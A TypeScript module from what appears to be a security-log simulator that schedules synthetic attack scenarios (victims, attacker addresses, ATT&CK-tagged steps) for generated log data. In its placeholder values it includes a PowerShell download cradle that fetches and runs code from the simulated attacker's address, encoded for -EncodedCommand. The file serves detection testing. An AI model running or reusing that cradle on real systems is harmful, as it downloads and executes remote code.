/**
 * Plans scenario instances: a pure function of the seed, the library, `[scenarios]` and the population. Day by day
 * (UTC), each selected scenario runs a Poisson number of times; each instance gets a victim, a start in the victim's
 * local week (seasonality), an attacker (address, client), a server when the scenario needs one, and its steps with
 * their times. Every shard plans the same days and keeps its own victims' steps: the plan does not depend on how
 * many workers run, and shards never talk to each other.
 */
import type { Actor } from '../population/actor.js';
import { randomAddressIn } from '../population/cidr.js';
import type { Server } from '../population/inventory.js';
import { ZoneOffsetCache } from '../population/timezones.js';
import { ConfigError } from '../util/config-errors.js';
import { Rng } from '../util/rng.js';
import { hex } from '../population/aws-ids.js';
import { javaMediumDate } from '../encode/time-format.js';
import type { ScenariosConfig } from './config.js';
import type { Attacker } from '../traffic/shard-source.js';
import { ATTACKER_AGENTS, ATTACKER_BROWSERS, ATTACKER_NETWORKS } from './library/attackers.js';
import { SHARE_FILES } from './library/files.js';
import { fnv1a } from '../util/hash.js';
import type { Delay, ScenarioSpec, Seasonality, StepSpec } from './types.js';

const DAY_MS = 86_400_000;

/** A step of an instance, with its time and its placeholders filled. */
export interface PlannedStep {
  readonly timeMs: number;
  /** The victim (global actor index): the shard that owns them writes the step. */
  readonly victim: number;
  readonly scenario: ScenarioSpec;
  readonly step: StepSpec;
  /** The instance's id (`<scenario>-<yyyymmdd>-<n>`), unique in the run. */
  readonly instance: string;
  /** Order among steps of the same time (instance, then step). */
  readonly order: number;
  /** The step's values and record with the instance's placeholders filled (on first use: only the victim's shard needs them). */
  filled(): { readonly values: Readonly<Record<string, string>>; readonly record?: Readonly<Record<string, unknown>> };
  readonly host?: string;
  readonly attacker: Attacker;
  /** A spell's end (steps with `spell`). */
  readonly untilMs?: number;
}

export interface ScenarioPlan {
  /** The scenarios that run, and those selected but skipped (a source they write is not in the run). */
  readonly running: readonly ScenarioSpec[];
  readonly skipped: readonly { readonly name: string; readonly missing: readonly string[] }[];
  /** Every step of the instances that start on UTC day `day` (days since 1970-01-01), in time order. */
  planDay(day: number): PlannedStep[];
}

/** Steps in the order they are written: by time, then instance, then their order in it. */
export function byTime(a: PlannedStep, b: PlannedStep): number {
  return a.timeMs - b.timeMs || (a.instance < b.instance ? -1 : a.instance > b.instance ? 1 : a.order - b.order);
}

/** The sources a scenario writes (`required`: only those it cannot run without). */
export function scenarioSources(s: ScenarioSpec, required = false): string[] {
  return [...new Set(s.steps.filter((st) => !required || !st.optional).map((st) => st.source))];
}

/** Its ATT&CK techniques, in the order its steps use them. */
export function scenarioTechniques(s: ScenarioSpec): string[] {
  return [...new Set(s.steps.flatMap((st) => st.techniques))];
}

function globMatch(pattern: string, text: string): boolean {
  const re = new RegExp(`^${pattern.split('*').map((p) => p.replace(/[.+?^${}()|[\]\\]/g, '\\$&')).join('.*')}$`);
  return re.test(text);
}

/** Whether an include/exclude entry takes a scenario: by name (glob) or by technique (a parent id takes its subs). */
function takes(entry: string, s: ScenarioSpec): boolean {
  if (/^T\d{4}(\.\d{3})?$/.test(entry)) return scenarioTechniques(s).some((t) => t === entry || t.startsWith(`${entry}.`));
  return globMatch(entry, s.name);
}

/** The scenarios `[scenarios]` selects from the library; a list entry that takes none is an error naming it. */
export function selectScenarios(config: ScenariosConfig, library: readonly ScenarioSpec[]): ScenarioSpec[] {
  const problems: { path: string; value: string; allowed: string }[] = [];
  const check = (list: readonly string[], key: string) =>
    list.forEach((entry, i) => {
      if (!library.some((s) => takes(entry, s))) problems.push({ path: `scenarios.${key}[${i}]`, value: JSON.stringify(entry), allowed: 'a scenario name (`*` matches any text) or an ATT&CK technique id of one; `seclog scenarios` lists them' });
    });
  check(config.include ?? [], 'include');
  check(config.exclude, 'exclude');
  for (const name of Object.keys(config.rates)) {
    if (!library.some((s) => s.name === name)) problems.push({ path: `scenarios.rates.${name}`, value: name, allowed: 'a scenario name; `seclog scenarios` lists them' });
  }
  if (problems.length > 0) throw new ConfigError('(config)', problems);
  return library.filter((s) => (config.include === undefined || config.include.some((e) => takes(e, s))) && !config.exclude.some((e) => takes(e, s)));
}

function delayMs(rng: Rng, d: Delay | undefined): number {
  if (d === undefined) return 0;
  return 1000 * Math.min(d.max_s, Math.max(d.min_s, rng.logNormal(d.median_s, 0.6)));
}

/** Whether a local time (minute of the day, day of the week 0 = Sunday) suits the seasonality. */
function suits(when: Seasonality, minute: number, weekday: number, actor: Actor): boolean {
  const hour = minute / 60;
  const workday = weekday >= 1 && weekday <= 5;
  switch (when) {
    case 'business_hours':
      return workday && hour >= actor.work_start_hour && hour < actor.work_end_hour;
    case 'off_hours':
      return !workday || hour < actor.work_start_hour - 1 || hour >= actor.work_end_hour + 2;
    case 'maintenance_windows':
      // Nights and weekends, when changes are made and fewer people watch: 22:00-05:00, or any weekend hour.
      return !workday || hour >= 22 || hour < 5;
    default:
      return true;
  }
}

/** Whether `name` names the actor: its id, e-mail or user name (AWS or Linux). */
function names(name: string, a: Actor): boolean {
  return name === a.id || name === a.email || name === a.user_name || name === a.linux_user;
}

function victimTakes(s: ScenarioSpec, a: Actor, config: ScenariosConfig): boolean {
  const v = s.victim;
  if (a.kind !== v.kind) return false;
  const needs = v.needs ?? [];
  if (needs.includes('workstation') && a.workstation_hostname === null) return false;
  if (needs.includes('windows') && !(a.workstation_os ?? '').startsWith('Windows')) return false;
  if (needs.includes('iam_user') && a.identity_type !== 'IAMUser') return false;
  if (needs.includes('sso') && a.identity_style !== 'sso') return false;
  const wanted = config.victims;
  if (wanted?.actors) return wanted.actors.some((n) => names(n, a));
  const roles = wanted?.roles ?? v.roles;
  return roles === undefined || (a.role !== null && roles.includes(a.role));
}

/**
 * A step's values and record filled from the instance's placeholders and the repetition's own (`own`, and its time),
 * on first use and once.
 */
function lazyFill(step: StepSpec, vars: Readonly<Record<string, string>>, own: Readonly<Record<string, string>>, whenMs: number): PlannedStep['filled'] {
  let done: ReturnType<PlannedStep['filled']> | null = null;
  return () => {
    if (done === null) {
      const all: Record<string, string> = {
        ...vars,
        ...own,
        'time.iso': new Date(whenMs).toISOString().slice(0, 19) + 'Z',
        // As IAM writes dates (`Aug 1, 2024 1:33:28 PM`), and as other services do (`Aug 1, 2024, 1:33:28 PM`).
        'time.java': javaMediumDate(whenMs).replace(/(\d{4}),/, '$1'),
        'time.java_comma': javaMediumDate(whenMs),
        'time.lambda': new Date(whenMs).toISOString().slice(0, 23) + '+0000',
      };
      done = {
        values: Object.fromEntries(Object.entries(step.values ?? {}).map(([key, v]) => [key, fill(v, all)])),
        record: step.record ? (fillDeep(step.record, all) as Record<string, unknown>) : undefined,
      };
    }
    return done;
  };
}

/** Fills `{{ name }}` placeholders from `vars`; an unknown one is a bug in the library (tests check every scenario). */
export function fill(text: string, vars: Readonly<Record<string, string>>): string {
  if (!text.includes('{{')) return text;
  return text.replace(/\{\{\s*([\w.]+)\s*\}\}/g, (_, name: string) => {
    const v = vars[name];
    if (v === undefined) throw new Error(`scenario placeholder {{ ${name} }} names nothing`);
    return v;
  });
}

function fillDeep(value: unknown, vars: Readonly<Record<string, string>>): unknown {
  if (typeof value === 'string') return fill(value, vars);
  if (Array.isArray(value)) return value.map((v) => fillDeep(v, vars));
  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, fillDeep(v, vars)]));
  return value;
}

/** Names attackers give what they create: plausible enough to pass a glance. */
const RESOURCE_STEMS = ['backup', 'svc-sync', 'ops-automation', 'monitoring', 'support', 'ci-deploy', 'audit-tmp', 'dev-test'];

/** The placeholders an instance fills: what steps may name. */
export function instanceVars(actor: Actor, server: Server | null, attacker: Attacker, rng: Rng, instance: string): Record<string, string> {
  const stem = RESOURCE_STEMS[rng.int(RESOURCE_STEMS.length)];
  return {
    instance,
    'attacker.ip': attacker.ip,
    'attacker.user_agent': attacker.agent,
    'attacker.browser': attacker.browser,
    'victim.id': actor.id,
    'victim.name': actor.display_name,
    'victim.email': actor.email ?? actor.user_name,
    'victim.user': actor.linux_user,
    'victim.sam': actor.ad_sam_account_name,
    'victim.sid': actor.ad_sid,
    'victim.user_name': actor.user_name,
    'victim.arn': actor.identity_arn,
    'victim.account': actor.account_id,
    'victim.region': actor.home_region,
    'victim.host': actor.workstation_hostname ?? '-',
    'victim.host_ip': actor.workstation_ip ?? '-',
    'server.host': server?.hostname ?? '-',
    'server.ip': server?.ip ?? '-',
    // Processes the attack starts on hosts: their GUIDs and pids, the same wherever a step names them (parent, child).
    ...Object.fromEntries([1, 2, 3, 4, 5, 6, 7, 8].flatMap((n) => [
      [`guid.${n}`, `${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`],
      [`pid.${n}`, String(4 * (500 + rng.int(3500)))],
    ])),
    // A logon session the attack opens on a host (its logon id in every record of it).
    'logon.1': String(1_000_000 + rng.int(899_000_000)),
    name: `${stem}-${hex(rng, 6)}`,
    // The download cradle a macro hands to PowerShell, as -EncodedCommand takes it (UTF-16LE, base64).
    'attacker.ps_enc': Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${attacker.ip}/a')`, 'utf16le').toString('base64'),
    hex8: hex(rng, 8),
    hex16: hex(rng, 16),
    port: String(32_768 + rng.int(28_000)),
  };
}

export function planScenarios(
  config: ScenariosConfig,
  library: readonly ScenarioSpec[],
  seed: string,
  actors: readonly Actor[],
  servers: readonly Server[],
  sourceNames: readonly string[],
  startMs: number,
): ScenarioPlan {
  const selected = config.enabled ? selectScenarios(config, library) : [];
  // Named victims must name someone (a typo would silently run nothing).
  const named = config.victims?.actors ?? [];
  const unknown = named.flatMap((n, i) => (actors.some((a) => names(n, a)) ? [] : [{ path: `scenarios.victims.actors[${i}]`, value: JSON.stringify(n), allowed: 'an actor of the population: its id, e-mail or user name' }]));
  if (config.enabled && unknown.length > 0) throw new ConfigError('(config)', unknown);
  const running: ScenarioSpec[] = [];
  const skipped: { name: string; missing: string[] }[] = [];
  for (const s of selected) {
    const missing = scenarioSources(s, true).filter((src) => !sourceNames.includes(src));
    if (missing.length > 0) skipped.push({ name: s.name, missing });
    else running.push(s);
  }
  const victims = running.map((s) => actors.flatMap((a, i) => (victimTakes(s, a, config) ? [i] : [])));
  const serverChoices = running.map((s) => (s.server ? servers.filter((sv) => s.server!.roles.includes(sv.role) && (s.server!.environment === undefined || sv.environment === s.server!.environment)) : []));
  for (const [k, s] of running.entries()) {
    if (victims[k].length === 0) skipped.push({ name: s.name, missing: ['a victim (no actor fits it)'] });
    else if (s.server && serverChoices[k].length === 0) skipped.push({ name: s.name, missing: [`a server (${s.server.roles.join(' or ')})`] });
  }
  const windowStart = Math.max(startMs, config.window?.start ? Date.parse(config.window.start) : -Infinity);
  const windowEnd = config.window?.end ? Date.parse(config.window.end) : Infinity;
  const ok = running.map((s, k) => victims[k].length > 0 && (!s.server || serverChoices[k].length > 0));

  const zones = new ZoneOffsetCache();
  /** Whether a step names values of each repetition (its number, file, time, sequence): then it is filled per repetition. */
  const repeated = new Map<StepSpec, boolean>();
  const perRepetition = (step: StepSpec): boolean => {
    let v = repeated.get(step);
    if (v === undefined) repeated.set(step, (v = /\{\{\s*(rep|time|step)\b/.test(JSON.stringify(step.values ?? {}) + JSON.stringify(step.record ?? {}))));
    return v;
  };
  // Every shard of a worker asks for the same days: each is planned once (the last few kept).
  const memo = new Map<number, PlannedStep[]>();
  const planDay = (day: number): PlannedStep[] => {
    let steps = memo.get(day);
    if (steps === undefined) {
      memo.set(day, (steps = planOneDay(day)));
      for (const d of memo.keys()) if (d < day - 2) memo.delete(d);
    }
    return steps;
  };
  const planOneDay = (day: number): PlannedStep[] => {
    const steps: PlannedStep[] = [];
    const dayStart = day * DAY_MS;
    if (dayStart + DAY_MS <= windowStart || dayStart >= windowEnd) return steps;
    const date = new Date(dayStart).toISOString().slice(0, 10).replaceAll('-', '');
    running.forEach((s, k) => {
      if (!ok[k]) return;
      const rng = new Rng(seed, `scenarios/${s.name}/${day}`);
      const count = rng.poisson(config.rates[s.name] ?? config.per_day);
      const when = config.seasonality ?? s.when;
      for (let n = 0; n < count; n++) {
        const victim = victims[k][rng.int(victims[k].length)];
        const actor = actors[victim];
        // A start in the UTC day that suits the victim's local week (a few tries; else any time of the day).
        let start = dayStart + rng.int(DAY_MS);
        for (let tries = 0; tries < 48; tries++) {
          const local = start + zones.get(actor.timezone).offsetMs(start);
          const minute = Math.floor((local % DAY_MS) / 60_000);
          const weekday = new Date(local).getUTCDay();
          if (suits(when, minute, weekday, actor)) break;
          start = dayStart + rng.int(DAY_MS);
        }
        const { cidr, ...network } = ATTACKER_NETWORKS[rng.int(ATTACKER_NETWORKS.length)];
        const ip = randomAddressIn(rng, cidr);
        const agent = ATTACKER_AGENTS[rng.int(ATTACKER_AGENTS.length)];
        const attacker: Attacker = { ip, agent, browser: ATTACKER_BROWSERS[rng.int(ATTACKER_BROWSERS.length)], ...network };
        const server = s.server ? serverChoices[k][rng.int(serverChoices[k].length)] : null;
        const full = rng.float() < config.chain_ratio;
        if (start < windowStart || start >= windowEnd) continue;
        const instance = `${s.name}-${date}-${n + 1}`;
        const vars = instanceVars(actor, server, attacker, rng, instance);
        const fileBase = fnv1a(instance);
        let t = start;
        let order = 0;
        const stepTimes = new Map<string, number[]>();
        for (const step of s.steps) {
          if (step.chance !== undefined && rng.float() >= step.chance) break;
          if (step.optional && !sourceNames.includes(step.source)) continue;
          const along = step.alongside !== undefined ? stepTimes.get(step.alongside) : undefined;
          if (step.alongside !== undefined && along === undefined) throw new Error(`scenario ${s.name}: step ${step.name} goes alongside ${step.alongside}, which is not an earlier step`);
          const offset = delayMs(rng, step.after);
          if (along === undefined) t += offset;
          const times = along !== undefined ? along.length : step.repeat ? step.repeat.min + rng.int(step.repeat.max - step.repeat.min + 1) : 1;
          const host = step.host === 'server' ? server!.hostname : step.host === 'workstation' ? (actor.workstation_hostname ?? undefined) : undefined;
          const at: number[] = [];
          let filled: PlannedStep['filled'] = () => ({ values: {} });
          for (let r = 0; r < times; r++) {
            if (along !== undefined) at.push(along[r] + offset);
            else {
              if (r > 0) t += delayMs(rng, step.repeat!.gap);
              at.push(t);
            }
            const when = Math.floor(at[r]);
            // The repetition's own values (its number, a file it touches, its time: dates inside a record are the
            // step's own, as the API writes them), for the steps that name them; filled when the step is written.
            if (r === 0 || perRepetition(step)) {
              const file = SHARE_FILES[(r * 7 + fileBase) % SHARE_FILES.length].replace('#', String(1 + ((r * 13) % 97)));
              const own: Record<string, string> = {
                'step.sequence': String(order + 1),
                rep: String(r + 1),
                'rep.dir': file.slice(0, file.lastIndexOf('\\')),
                'rep.file': file.slice(file.lastIndexOf('\\') + 1),
              };
              filled = lazyFill(step, vars, own, when);
            }
            const untilMs = step.spell ? Math.floor(at[r] + delayMs(rng, step.spell.duration)) : undefined;
            steps.push({ timeMs: when, victim, scenario: s, step, instance, order: order++, filled, host, attacker, untilMs });
          }
          stepTimes.set(step.name, at);
          if (step.stage_end && !full) break;
        }
      }
    });
    return steps.sort(byTime);
  };
  return { running: running.filter((_, k) => ok[k]), skipped, planDay };
}
